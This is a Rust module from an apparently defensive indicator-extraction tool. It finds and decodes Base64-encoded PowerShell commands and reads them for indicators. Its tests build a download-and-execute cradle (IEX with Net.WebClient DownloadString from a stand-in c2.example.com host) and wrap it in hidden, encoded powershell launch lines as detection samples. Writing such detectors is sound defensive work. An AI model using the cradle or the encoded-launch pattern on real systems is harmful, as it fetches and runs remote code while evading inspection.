//! Commands that are written in Base64, as PowerShell takes them: `powershell -enc SQBFAFgA…` stands for text in UTF-16.

use std::ops::Range;

use base64::Engine as _;
use base64::alphabet::STANDARD;
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};
use dunant_vocabulary::Span;

use super::{Finder, Genre, cut, read_prose_of};
use crate::{Bearing, Context, Limits, Reading, Reason, Vocabulary};

/// A command that was decoded, and where it is written.
pub(super) struct Command {
    pub(super) range: Range<usize>,
    text: String,
}

/// What a token is to this reader.
pub(super) enum Encoded {
    /// Another one's.
    Not,
    /// A command, or a loss.
    Taken,
    /// Written there as a command is, and no text when decoded.
    NoText(Range<usize>),
}

/// What decodes Base64 in a script.
const CALL: &str = "frombase64string(";

/// Tokens shorter than this are no command.
const SHORTEST: usize = 40;

impl Finder<'_, '_> {
    /// Takes a token that is an encoded command: its text is kept to be read. Where it is too long or too deep, that is a loss.
    pub(super) fn encoded_command(&mut self, token: &Range<usize>) -> Encoded {
        if token.len() < SHORTEST {
            return Encoded::Not;
        }
        let marks = |c: char| "\"'`()[];,".contains(c);
        let written = self.cut(token.clone());
        // `[Convert]::FromBase64String('SQBF…')` has no blank before its text.
        let call = written.to_ascii_lowercase().rfind(CALL).map_or(0, |at| at + CALL.len());
        // `$e='SQBF…';` has none either.
        let given = ["='", "=\""].into_iter().filter(|_| written.starts_with('$')).find_map(|mark| written.find(mark));
        let call = call.max(given.map_or(0, |at| at + 1));
        let token = token.start + call..token.end;
        let written = self.cut(token.clone());
        let start = token.start + written.len() - written.trim_start_matches(marks).len();
        let range = start..start + written.trim_matches(marks).len();
        let written = self.cut(range.clone());
        let base64 = |byte: u8| byte.is_ascii_alphanumeric() || b"+/=".contains(&byte);
        let limit = self.context.limits.encoded_bytes;
        // What a script keeps in a variable may be anything: it is a command where it is text.
        let is_kept = || written.len() as u64 <= limit && self.is_assigned(range.start) && decoded(written).is_some();
        if written.len() < SHORTEST
            || !written.bytes().all(base64)
            || is_hash(written)
            || !(self.is_behind_a_flag(range.start) || is_kept())
        {
            return Encoded::Not;
        }
        let shown = cut(written, 0..32);
        if written.len() as u64 > limit {
            self.hide(range.clone());
            let what =
                format!("the command `{shown}…` is encoded (Base64) and longer than {limit} bytes; it was not decoded");
            self.lose(what, range, "raise it with `--limit encoded-bytes=N`");
        } else if self.context.limits.nesting == 0 {
            self.hide(range.clone());
            let what = format!("the command `{shown}…` is encoded (Base64) within others; it was not decoded");
            self.lose(what, range, "raise it with `--limit nesting=N`");
        } else if let Some(text) = decoded(written) {
            self.hide(range.clone());
            self.encoded.push(Command { range, text });
        } else {
            return Encoded::NoText(range);
        }
        Encoded::Taken
    }

    /// Says that what stands behind the flag of an encoded command is none, and nothing else that is known.
    pub(super) fn lose_command(&mut self, range: Range<usize>) {
        self.hide(range.clone());
        let shown = cut(self.cut(range.clone()), 0..32);
        let what = format!("the command `{shown}…` is encoded (Base64) and does not decode to text");
        self.lose(what, range, "decode it, and add what it says");
    }

    /// Whether what is before `at` gives a variable of PowerShell its value: `$e = "`.
    fn is_assigned(&self, at: usize) -> bool {
        const LOOKED_AT: usize = 80;
        let head = self.cut(self.text.floor_char_boundary(at.saturating_sub(LOOKED_AT))..at);
        let head = head.trim_end_matches([' ', '"', '\'']);
        let variable = head.strip_suffix('=').map(|head| head.trim_end_matches([' ', '+']));
        let name = variable.and_then(|head| head.rsplit(|c: char| c.is_whitespace() || c == ';').next());
        name.is_some_and(|name| name.len() > 1 && name.starts_with('$'))
    }

    /// Whether what is before `at` says that an encoded command follows: any beginning of `-EncodedCommand`, which PowerShell
    /// takes for the whole, or `FromBase64String(`.
    fn is_behind_a_flag(&self, at: usize) -> bool {
        const LOOKED_AT: usize = 40;
        let head = self.cut(self.text.floor_char_boundary(at.saturating_sub(LOOKED_AT))..at);
        let head = head.trim_end_matches([' ', '"', '\'', '`']).to_ascii_lowercase();
        if head.ends_with(CALL) {
            return true;
        }
        let flag = head.rsplit(|c: char| c.is_whitespace() || "(,\"'".contains(c)).next().unwrap_or_default();
        let Some(name) = flag.strip_prefix(['-', '/', '–', '—']) else { return false };
        name == "ec" || !name.is_empty() && "encodedcommand".starts_with(name)
    }
}

/// Reads what a command says, as a line of a log: each value at the place of the command. Its text spoke of it as `bearing` says.
pub(super) fn read_command(
    command: &Command,
    place: &dyn Fn(Range<usize>) -> Span,
    path: &str,
    bearing: Bearing,
    context: &Context<'_>,
    reading: &mut Reading,
) {
    let span = place(command.range.clone());
    let path = if path.is_empty() { "decoded".to_owned() } else { format!("{path}/decoded") };
    let (before, mark) = (reading.outcomes(), reading.mark());
    // A script has no wording, and may hold another.
    let vocabulary = Vocabulary::empty();
    let limits = Limits { nesting: context.limits.nesting.saturating_sub(1), ..context.limits.clone() };
    let context = Context { vocabulary: &vocabulary, limits: &limits, ..*context };
    read_prose_of(Genre::Indicators, &command.text, &|_| span, &path, &context, reading);
    reading.bear_since(&mark, bearing);
    if reading.outcomes() == before {
        reading.set_aside(Reason::Description, command.text.trim(), span, path);
    }
}

/// The text that Base64 stands for: UTF-16 with the lower byte first, or UTF-8. `None` where it is no text.
fn decoded(base64: &str) -> Option<String> {
    let bytes = BASE64.decode(base64).ok()?;
    let wide = (bytes.len() % 2 == 0).then(|| {
        let units = bytes.chunks_exact(2).filter_map(|pair| pair.first_chunk().copied()).map(u16::from_le_bytes);
        char::decode_utf16(units).collect::<Result<String, _>>().ok()
    });
    wide.flatten().filter(|text| is_text(text)).or_else(|| String::from_utf8(bytes).ok().filter(|text| is_text(text)))
}

/// Whether characters are such as people and programs write: mostly ASCII, and no control characters.
fn is_text(text: &str) -> bool {
    let text = text.trim_start_matches('\u{feff}');
    let (mut all, mut plain) = (0_usize, 0_usize);
    for c in text.chars() {
        if c.is_control() && !matches!(c, '\n' | '\r' | '\t') {
            return false;
        }
        all += 1;
        plain += usize::from(c.is_ascii());
    }
    all > 0 && plain * 2 >= all
}

/// Base64 of RFC 4648, section 4, as scripts have it: padding may be left out, and the bits that the last digit has too many are not
/// looked at.
const BASE64: GeneralPurpose = GeneralPurpose::new(
    &STANDARD,
    GeneralPurposeConfig::new()
        .with_decode_padding_mode(DecodePaddingMode::Indifferent)
        .with_decode_allow_trailing_bits(true),
);

/// Whether a token has the digits and the length of a hash: MD5, SHA-1, the family of SHA-2.
fn is_hash(written: &str) -> bool {
    const LENGTHS: [usize; 6] = [32, 40, 56, 64, 96, 128];
    LENGTHS.contains(&written.len()) && written.bytes().all(|byte| byte.is_ascii_hexdigit())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn encoded(text: &str) -> String {
        BASE64.encode(text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>())
    }

    fn read(text: &str) -> Reading {
        crate::read_item("notes.txt", text.as_bytes(), &Context::default()).swap_remove(0).reading
    }

    #[test]
    fn a_command_in_a_variable_is_read_where_it_is_text() {
        for text in [
            format!("$e = \"{}\"\npowershell -enc $e\n", encoded(SCRIPT)),
            format!("$payload='{}'; iex $payload\n", encoded(SCRIPT)),
        ] {
            let read = read(&text);
            assert!(read.observations().iter().any(|it| it.observed.to_string().contains("c2.example.com")), "{text}");
        }
        let noise = BASE64.encode([0x9f, 0x86, 0xd0, 0x81].repeat(16));
        let read = read(&format!("$key = \"{noise}\"\n"));
        assert!(read.losses().is_empty() && read.observations().is_empty(), "{read:?}");
    }

    const SCRIPT: &str = "IEX (New-Object Net.WebClient).DownloadString('http://c2.example.com/a.ps1')";

    #[test]
    fn an_encoded_command_is_read_as_the_text_that_it_is_at_its_place() {
        let command = encoded(SCRIPT);
        for line in [
            format!("powershell.exe -nop -w hidden -enc {command}"),
            format!("powershell -EncodedCommand \"{command}\""),
            format!("On 3 May it ran `powershell /e {command}`."),
            format!("[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{command}'))"),
            format!("powershell -ec {}", command.trim_end_matches('=')),
        ] {
            let reading = read(&line);
            let url = reading.observations().iter().find(|o| o.observed.to_string() == "http://c2.example.com/a.ps1");
            let url = url.unwrap_or_else(|| panic!("{line}: {:?}", reading.losses()));
            assert_eq!(&*url.path, "decoded", "{line}");
            let place = &line[url.span.start as usize..url.span.end as usize];
            assert_eq!(place, command.trim_end_matches(if place.ends_with('=') { ' ' } else { '=' }), "{line}");
            assert_eq!(reading.losses(), [], "{line}");
        }
    }

    #[test]
    fn what_does_not_decode_to_text_or_is_too_deep_is_a_loss() {
        for base64 in ["/v8BAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4f", "SQBFAFgASQBFAFgASQBFAFgASQBFAFgASQBFAFgAS"] {
            let reading = read(&format!("powershell -enc {base64}"));
            assert!(reading.losses()[0].what.contains("does not decode"), "{:?}", reading.losses());
        }
        let mut nested = SCRIPT.to_owned();
        for _ in 0..6 {
            nested = format!("powershell -enc {}", encoded(&nested));
        }
        assert!(read(&nested).losses().iter().any(|loss| loss.what.contains("within others")));
        let once = format!("powershell -enc {}", encoded(&format!("powershell -enc {}", encoded(SCRIPT))));
        assert!(read(&once).observations().iter().any(|o| o.observed.to_string() == "c2.example.com"));
        let limits = Limits::default().with("encoded-bytes", 50).unwrap();
        let context = Context { limits: &limits, ..Context::default() };
        let text = format!("powershell -enc {}", encoded(SCRIPT));
        let item = crate::read_item("x", text.as_bytes(), &context).swap_remove(0);
        assert!(item.reading.losses()[0].help.as_deref().is_some_and(|help| help.contains("encoded-bytes")));
    }

    #[test]
    fn a_command_that_names_nothing_is_shown_decoded() {
        let reading = read(&format!("powershell -enc {}", encoded("Get-Process | Sort-Object CPU -Descending")));
        assert!(reading.values_set_aside().iter().any(|aside| aside.what.starts_with("Get-Process")));
    }

    #[test]
    fn a_hash_or_a_path_behind_the_flag_is_read_as_what_it_is() {
        for (digits, count) in [(32, 1), (40, 1), (64, 1), (96, 0), (128, 1)] {
            let hash = "3f79bb7b435b05321651daefd374cdc681dc06faa65e374e38337b88ca046dea".repeat(2);
            for line in ["We found it with grep -e HASH /mnt/disk.", "yara -e HASH", "tool -enc \"HASH\" x"] {
                let reading = read(&line.replace("HASH", &hash[..digits]));
                let hashes = reading.observations().iter().filter(|o| o.observed.to_string() == hash[..digits]);
                assert_eq!(hashes.count(), count, "{line} {digits}");
                let undecoded = reading.losses().iter().any(|loss| loss.what.contains("Base64"));
                assert!(!undecoded, "{line} {digits}: {:?}", reading.losses());
            }
        }
        let reading = read("The script ran grep -e x /e /tmp/update/heron/loader/second/stage/heron /mnt/disk");
        assert!(reading.observations().iter().any(|o| o.observed.to_string().starts_with("/tmp/update/heron")));
        assert_eq!(reading.losses(), []);
    }

    #[test]
    fn padding_may_be_left_out_or_be_too_much_and_bits_may_be_left_over() {
        let command = encoded(SCRIPT);
        let bare = command.trim_end_matches('=');
        for written in [bare.to_owned(), format!("{bare}="), command.clone()] {
            let reading = read(&format!("powershell -enc {written}"));
            assert!(!reading.observations().is_empty(), "{written}: {:?}", reading.losses());
        }
    }
}
